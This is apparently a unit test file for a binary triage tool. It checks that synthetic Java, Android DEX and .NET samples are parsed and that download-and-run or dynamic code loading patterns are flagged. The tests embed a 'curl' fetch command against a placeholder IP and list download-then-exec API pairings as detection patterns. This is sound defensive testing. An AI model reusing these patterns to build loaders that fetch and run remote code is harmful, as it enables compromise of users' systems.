"""What .NET, Java and Android executables name in their tables."""

from __future__ import annotations

from tests.unit.triage.binary.made import dex, java, metadata
from vedette.triage.allowance import Allowance
from vedette.triage.binary import examine, facts
from vedette.triage.binary.formats import dex as dex_format
from vedette.triage.binary.formats import java as java_format
from vedette.triage.binary.tables import cli
from vedette.triage.fact import Act
from vedette.triage.kinds import Kind
from vedette.triage.sample import Sample

DOWNLOADS_AND_RUNS = (
    ("java/net/URL", "openStream"), ("java/nio/file/Files", "copy"), ("java/lang/Runtime", "exec"),
)  # fmt: skip


def acts(data: bytes, kind: Kind) -> set[Act]:
    sample = Sample(name="a", data=data, kind=kind)
    found = examine(sample, Allowance())
    assert found is not None
    return {one.act for one in facts(sample, found, Allowance())}


def test_a_class_says_what_it_calls_and_which_texts_it_uses() -> None:
    found = java_format.image(java(DOWNLOADS_AND_RUNS, ["http://198.51.100.7/a"]))
    assert found is not None
    assert [one.name for one in found.imports] == [
        "java.net.URL.openStream",
        "java.nio.file.Files.copy",
        "java.lang.Runtime.exec",
    ]
    assert (found.texts, found.made_with) == (("http://198.51.100.7/a",), ("Java 17",))


def test_a_class_that_downloads_and_starts_is_told_from_one_that_only_downloads() -> None:
    assert acts(java(DOWNLOADS_AND_RUNS), Kind.JAVA_CLASS) == {Act.RUNS_COMMAND}
    assert acts(java(DOWNLOADS_AND_RUNS[:2]), Kind.JAVA_CLASS) == set()


def test_a_command_among_the_texts_is_likely_what_is_run() -> None:
    command = "curl -s http://198.51.100.7/a"
    sample = Sample(name="a", data=java([("java/lang/Runtime", "exec")], [command]), kind=Kind.JAVA_CLASS)
    found = examine(sample, Allowance())
    assert found is not None
    (one,) = facts(sample, found, Allowance())
    assert (one.act, one.target, one.sure, one.quote) == (Act.RUNS_COMMAND, command, False, command)
    assert acts(java([("java/lang/String", "length")], [command]), Kind.JAVA_CLASS) == set()


def test_android_bytecode_says_what_it_calls() -> None:
    calls = [("Ldalvik/system/DexClassLoader;", "<init>"), ("Ljava/net/URL;", "openConnection")]
    found = dex_format.image(dex(calls, ["https://example.invalid/a.dex"]))
    assert found is not None
    assert [one.name for one in found.imports] == [
        "dalvik.system.DexClassLoader.<init>",
        "java.net.URL.openConnection",
    ]
    assert found.texts == ("https://example.invalid/a.dex",)
    assert acts(dex(calls), Kind.DEX) == {Act.LOADS_CODE}
    assert acts(dex(calls[:1]), Kind.DEX) == set()


def test_metadata_names_assemblies_members_and_texts() -> None:
    made = cli.read(
        metadata(["System.Net"], [("System.Net", "WebClient", "DownloadFile")], ["http://a.invalid/", "b"])
    )
    assert made is not None
    assert made.user_strings() == ["http://a.invalid/", "b"]
    (owner,) = made.table(cli.TYPE_REF)
    (member,) = made.table(cli.MEMBER_REF)
    (reference,) = made.table(cli.ASSEMBLY_REF)
    assert (made.text(owner[2]), made.text(owner[1])) == ("System.Net", "WebClient")
    assert (made.text(member[1]), made.text(reference[6])) == ("DownloadFile", "System.Net")


def test_half_a_table_is_no_error() -> None:
    whole = metadata(["System.Net"], [("System.Net", "WebClient", "DownloadFile")] * 9, ["http://a.invalid/"])
    for size in range(0, len(whole), 3):
        made = cli.read(whole[:size])
        assert made is None or len(made.table(cli.MEMBER_REF)) <= 9
    for build, read in (
        (java(DOWNLOADS_AND_RUNS, ["x"]), java_format.image),
        (dex([("La;", "b")], ["c"]), dex_format.image),
    ):
        for size in range(len(build)):
            read(build[:size])


def test_a_count_that_cannot_be_true_costs_nothing() -> None:
    lied = bytearray(dex([("La;", "b")], ["c"]))
    lied[56:60] = b"\xff\xff\xff\x7f"
    assert dex_format.image(bytes(lied)) is not None
    lied = bytearray(java(DOWNLOADS_AND_RUNS))
    lied[8:10] = b"\xff\xff"
    assert java_format.image(bytes(lied)) is None
